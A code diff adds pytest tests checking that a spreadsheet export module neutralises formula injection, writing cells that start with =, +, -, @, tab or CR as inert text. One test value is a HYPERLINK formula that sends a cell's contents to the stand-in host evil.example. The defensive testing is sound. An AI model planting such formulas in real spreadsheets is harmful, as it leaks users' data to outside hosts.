@@ -4,9 +4,11 @@ import datetime
 import io
 from decimal import Decimal
 
+import pytest
 from openpyxl import Workbook, load_workbook
 
 from core.xlsx import Column, Kind, Sheet, workbook_bytes
+from tests.worlds.excel import libreoffice_sheets
 
 COLUMNS = (
     Column("户编号", 20, Kind.ID),
@@ -61,3 +63,29 @@ def test_given_totals_are_written_as_they_are():
     assert row[0] == "合计"
     assert Decimal(str(row[2])) == Decimal("99.99")
     assert row[3] == 7
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?id="&A2,"详情")'
+
+
+@pytest.mark.parametrize("text", [HYPERLINK, "=1+1", "+86 139", "-1", "@SUM(A1)", "\tx", "\rx"])
+def test_text_that_a_spreadsheet_would_run_is_written_as_inert_text(text):
+    """OWASP formula injection: a text cell starting with = + - @, tab or CR is text with the quote prefix, in a
+    text column and in an ID column, whose other cells keep their style."""
+    workbook = Workbook(write_only=True)
+    sheet = Sheet(workbook, "台账", COLUMNS)
+    sheet.append([text, None, None, None, text])
+    sheet.append(["640324100201000001", None, None, None, "甲"])
+    cells = load_workbook(io.BytesIO(workbook_bytes(workbook)))["台账"]
+    for cell in (cells["A2"], cells["E2"]):
+        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
+    assert cells["A2"].number_format == "@"
+    assert not cells["A3"].quotePrefix  # the ID column's shared style is untouched
+    assert not cells["E3"].quotePrefix
+
+
+def test_libreoffice_shows_an_injected_hyperlink_as_its_text_and_runs_nothing(tmp_path):
+    workbook = Workbook(write_only=True)
+    Sheet(workbook, "台账", COLUMNS).append(["640324100201000001", None, None, None, HYPERLINK])
+    (sheet,) = libreoffice_sheets(workbook_bytes(workbook), tmp_path).values()
+    assert sheet[1][4] == HYPERLINK  # as typed, not the link's label 详情
